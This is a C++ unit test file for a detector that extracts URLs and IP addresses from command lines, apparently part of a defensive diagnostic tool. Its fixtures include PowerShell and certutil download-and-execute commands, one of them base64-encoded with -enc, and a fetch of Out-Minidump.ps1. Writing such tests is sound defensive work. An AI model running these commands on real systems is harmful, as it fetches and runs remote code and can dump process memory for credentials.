// SPDX-License-Identifier: EUPL-1.2
#include "diagnose/questions/indicators/named.h"

#include <gtest/gtest.h>

#include "base/base64.h"
#include "base/text.h"

namespace beffroi::diagnose::questions::indicators {
namespace {

std::vector<std::string> values_in(std::string_view command) {
  std::vector<std::string> values;
  for (const Named& named : named_in(command)) values.push_back(named.value);
  return values;
}

using Values = std::vector<std::string>;

TEST(NamedInCommands, UrlsAndAddressesAreTakenAsTheyAreWritten) {
  EXPECT_EQ(values_in("iex (iwr -UseBasicParsing http://10.0.5.13/Out-Minidump.ps1) ; Get-Process"),
            Values{"http://10.0.5.13/Out-Minidump.ps1"});
  EXPECT_EQ(values_in("certutil -urlcache -f \"HTTPS://files.example.org:8443/a?b=c\" a.exe & ping 203.0.113.9."),
            (Values{"HTTPS://files.example.org:8443/a?b=c", "203.0.113.9"}));
  const auto all = named_in("start ftp://user@files.example.org/x");
  ASSERT_EQ(all.size(), 1U);
  EXPECT_EQ(all[0].host, "files.example.org");
  EXPECT_TRUE(all[0].is_url);
}

TEST(NamedInCommands, WhatIsHiddenInBase64IsReadToo) {
  const std::string script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
  const std::string wide = base::base64(base::as_bytes(base::utf8_to_utf16le(script)));
  EXPECT_EQ(values_in("powershell -nop -enc " + wide), Values{"http://203.0.113.9/a.ps1"});
}

TEST(NamedInCommands, CommentsVersionsAndTheMachineItselfAreNoIndicators) {
  EXPECT_EQ(values_in("<# see https://example.org/author #> whoami"), Values{});
  EXPECT_EQ(values_in("# https://example.org/licence\r\n  # https://example.org/other\nwhoami"), Values{});
  EXPECT_EQ(values_in("iwr http://127.0.0.1:8080/x; iwr http://localhost/x; ping 0.0.0.0"), Values{});
  EXPECT_EQ(values_in("iwr http://$server/x; iwr http://; iwr https://" + std::string(400, 'a') + ".example.org"), Values{});
  EXPECT_EQ(values_in("-Version 10.0.5.13 setup-10.0.5.13.exe 1.10.0.5.13 10.0.5.1300 999.1.1.1"), Values{});
}

TEST(NamedInCommands, EachIsNamedOnceAndTheirNumberIsBounded) {
  EXPECT_EQ(values_in("ping 203.0.113.9 & ping 203.0.113.9"), Values{"203.0.113.9"});
  std::string many;
  for (int i = 1; i < 200; ++i) many += "ping 203.0.113." + std::to_string(i) + "\n";
  EXPECT_EQ(values_in(many).size(), 20U);
  EXPECT_EQ(values_in(std::string(100'000, '<') + " http://203.0.113.9/"), Values{});
}

}  // namespace
}  // namespace beffroi::diagnose::questions::indicators
